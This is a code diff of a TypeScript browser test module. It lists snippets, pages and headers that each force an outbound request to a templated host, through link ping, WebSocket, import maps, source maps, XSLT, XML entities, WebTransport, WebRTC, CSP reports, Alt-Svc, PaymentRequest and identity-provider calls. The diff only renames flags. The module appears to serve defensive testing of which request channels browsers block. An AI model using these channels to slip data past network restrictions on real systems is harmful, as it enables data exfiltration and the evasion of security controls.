@@ -34,7 +34,7 @@ export const requests: readonly Attack[] = [
     by: 'a ping of a link',
     script: ({ id, url, ran }) =>
       `document.body.insertAdjacentHTML('beforeend', '<iframe name="${id}"></iframe><a target="${id}" ping="${url}" href="${ran}">x</a>'); document.querySelector('a[ping="${url}"]').click()`,
-    barred: true,
+    blockedByBrowser: true,
   },
   { by: 'WebSocket', script: ({ host, path }) => `new WebSocket("ws://${host}${path}")` },
   {
@@ -72,17 +72,17 @@ export const requests: readonly Attack[] = [
     by: 'an import map',
     page: ({ url }) =>
       `<script type="importmap">{"imports":{"x":"${url}.js"}}</script><script type="module">import "x"</script>`,
-    apart: true,
+    ownPage: true,
   },
   {
     by: 'the source map of a script',
     page: ({ url, ran }) => `<script>\n//# sourceMappingURL=${url}.map\nnew Image().src = "${ran}"</script>`,
-    barred: true,
+    blockedByBrowser: true,
   },
   {
     by: 'the attribution of a picture',
     page: ({ url, ran }) => `<img src="${ran}" attributionsrc="${url}">`,
-    barred: true,
+    blockedByBrowser: true,
   },
   {
     by: 'a page of a blob',
@@ -100,13 +100,13 @@ export const requests: readonly Attack[] = [
         x.importStylesheet(p.parseFromString(${text(sheet)}, 'text/xml'));
         try { x.transformToDocument(p.parseFromString('<a/>', 'text/xml')) } catch {} ${report(aim)}`;
     },
-    barred: true,
+    blockedByBrowser: true,
   },
   {
     by: 'an external entity',
     script: (aim) =>
       `new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY x SYSTEM "${aim.url}">]><a>&x;</a>', 'text/xml'); ${report(aim)}`,
-    barred: true,
+    blockedByBrowser: true,
   },
 ];
 
@@ -116,7 +116,7 @@ export const sockets: readonly Attack[] = [
     from: 'server',
     script: (aim) =>
       `const t = new WebTransport("https://${aim.host}${aim.path}"); t.closed.catch(() => {}); t.ready.catch(() => {}).finally(() => { ${report(aim)} })`,
-    barred: true,
+    blockedByBrowser: true,
   },
   ...[
     ['STUN', (host: string) => `{ urls: 'stun:${host}' }`],
@@ -124,13 +124,13 @@ export const sockets: readonly Attack[] = [
   ].map(([name, server]): Attack => ({
     by: `${String(name)} of WebRTC`,
     script: (aim) => gather((server as (host: string) => string)(aim.host), report(aim)),
-    barred: true,
+    blockedByBrowser: true,
   })),
   ...['turn', 'turns'].map((scheme): Attack => ({
     by: `${scheme}: of WebRTC over TCP`,
     script: (aim) =>
       gather(`{ urls: '${scheme}:${aim.host}?transport=tcp', username: 'u', credential: 'c' }`, report(aim)),
-    barred: true,
+    blockedByBrowser: true,
   })),
   {
     by: 'a candidate of WebRTC',
@@ -143,7 +143,7 @@ export const sockets: readonly Attack[] = [
         for (const kind of ['udp', 'tcp']) await a.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 ' + kind + ' 2122260223 127.0.0.1 ${aim.port} typ host' + (kind === 'tcp' ? ' tcptype passive' : '') });
         ${report(aim)}
       })()`,
-    barred: true,
+    blockedByBrowser: true,
   },
 ];
 
@@ -212,7 +212,7 @@ export const reports: readonly Attack[] = [
     by: 'the reports of a Content-Security-Policy',
     headers: ({ url }) => ({ 'content-security-policy': `style-src 'none'; report-uri ${url}` }),
     page: () => '<style>p{}</style>',
-    apart: true,
+    ownPage: true,
   },
   ...[
     [
@@ -241,28 +241,28 @@ export const reports: readonly Attack[] = [
     headers: headers as NonNullable<Attack['headers']>,
     page: () => '<style>p{}</style>',
     script: report,
-    apart: true,
-    barred: true,
+    ownPage: true,
+    blockedByBrowser: true,
   })),
   {
     by: 'the header Alt-Svc',
     headers: ({ host }) => ({ 'alt-svc': `h3="${host}"; ma=600, h2="${host}"` }),
     script: (aim) => `fetch("${aim.serve('x')}").then(() => { ${report(aim)} })`,
-    apart: true,
-    barred: true,
+    ownPage: true,
+    blockedByBrowser: true,
   },
   {
     by: 'a payment',
     from: 'server',
     script: (aim) =>
       `try { new PaymentRequest([{ supportedMethods: "https://${aim.host}${aim.path}" }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {}).finally(() => { ${report(aim)} }) } catch { ${report(aim)} }`,
-    barred: true,
+    blockedByBrowser: true,
   },
   {
     by: 'a sign-in with an identity provider',
     from: 'server',
     script: (aim) =>
       `Promise.race([navigator.credentials.get({ identity: { providers: [{ configURL: "${aim.url}", clientId: 'x' }] } }), fetch("${aim.serve('x')}")]).catch(() => {}).finally(() => { ${report(aim)} })`,
-    barred: true,
+    blockedByBrowser: true,
   },
 ];
